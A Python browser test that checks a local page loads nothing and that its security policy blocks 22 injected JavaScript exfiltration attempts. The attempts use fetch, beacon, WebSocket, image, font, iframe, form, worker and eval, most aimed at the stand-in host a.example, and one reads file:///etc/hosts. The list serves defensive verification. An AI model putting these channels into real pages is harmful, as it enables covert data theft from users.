"""Nothing goes out, and nothing could."""

from driver import Listener

from .page import Page
from .setting import Complaints, Setting

# All ways out that a script has and a policy can close. (A policy cannot forbid that a script leaves
# the page for another; the page's own has no address to go to.)
ATTEMPTS = {
    "fetch": "fetch('http://a.example/1').catch(() => 0)",
    "fetch of a file": "fetch('file:///etc/hosts').then(() => { window.leak = 1 }, () => 0)",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'http://a.example/2'); try { r.send() } catch {}",
    "socket": "try { new WebSocket('ws://a.example/3') } catch {}",
    "events": "try { new EventSource('http://a.example/4') } catch {}",
    "beacon": "navigator.sendBeacon('http://a.example/5', 'x')",
    "image": "new Image().src = 'http://a.example/6'",
    "script": "add('script', {src: 'http://a.example/7'})",
    "module": "add('script', {type: 'module', src: 'http://a.example/8'})",
    "style": "add('link', {rel: 'stylesheet', href: 'http://a.example/9'})",
    "font": "add('style', {}, '@font-face {font-family: x; src: url(http://a.example/10)} body {font-family: x}')",
    "picture of a style": "document.body.style.backgroundImage = 'url(http://a.example/11)'",
    "frame": "add('iframe', {src: 'http://a.example/12'})",
    "object": "add('object', {data: 'http://a.example/13'})",
    "film": "add('video', {src: 'http://a.example/14'})",
    "prefetch": "add('link', {rel: 'prefetch', href: 'http://a.example/15'})",
    "icon": "add('link', {rel: 'icon', href: 'http://a.example/16'})",
    "form": "add('form', {action: 'http://a.example/17', method: 'post'}).submit()",
    "base": "add('base', {href: 'http://a.example/18/'}); add('img', {src: 'x.png'})",
    "worker": "try { new Worker('http://a.example/19') } catch {}",
    "code from text": "try { window.evaluated = (0, eval)('1') } catch {}",
    "function from text": "try { window.evaluated = new Function('return 1')() } catch {}",
}
ADD = """const add = (tag, attributes, text = '') => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  element.textContent = text;
  document.body.append(element);
  return element;
};"""


def prove(setting: Setting) -> str:
    complaints = Complaints()
    listener = Listener()
    with setting.browser(proxy=listener.address) as browser:
        page = Page(browser, setting)
        page.take(setting.samples / "national-incubation-fail.json")
        browser.wait("it is open", lambda: page.has_notice("opened"))
        page.press("showReport")
        page.press_in_dialog("close")
        page.saved()
        page.menu("showScreening")
        loaded = browser.execute("return performance.getEntriesByType('resource').map((entry) => entry.name)")
        complaints.equal(loaded, [], "what the page loads")
        complaints.equal(browser.messages(), [], "the console")
        complaints.equal(listener.wanted, [], "where the page goes")
        for name, script in ATTEMPTS.items():
            # As the page's own script: it runs as an element of the page.
            browser.execute(
                "const script = document.createElement('script');"
                "script.textContent = arguments[0]; document.head.append(script);",
                f"{{ {ADD} {script} }}",
            )
        # Long enough for all of them: without a policy they arrive at once.
        complaints.equal(
            browser.execute_async("setTimeout(() => done(window.leak ?? window.evaluated ?? null), 1500)"), None, "leak"
        )
        complaints.equal(listener.wanted, [], "where scripts go in spite of the policy")
        complaints.equal(browser.execute("return document.title !== '' && location.protocol"), "file:", "the page")
    listener.close()
    complaints.end()
    return f"nothing requested; {len(ATTEMPTS)} attempts blocked"
